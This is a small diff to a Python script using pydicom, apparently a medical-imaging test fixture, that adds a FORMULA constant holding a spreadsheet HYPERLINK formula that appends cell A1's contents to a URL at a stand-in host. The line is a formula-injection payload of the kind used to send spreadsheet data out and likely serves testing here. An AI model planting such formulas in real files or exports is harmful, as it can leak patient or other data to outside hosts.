@@ -17,6 +17,7 @@ from pydicom.uid import (
 )
 
 WORDS = "Unilateral pulmonary infection, one infected area, lower left lung."
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"left lung")'
 HEIGHT, WIDTH = 40, 56
 
 
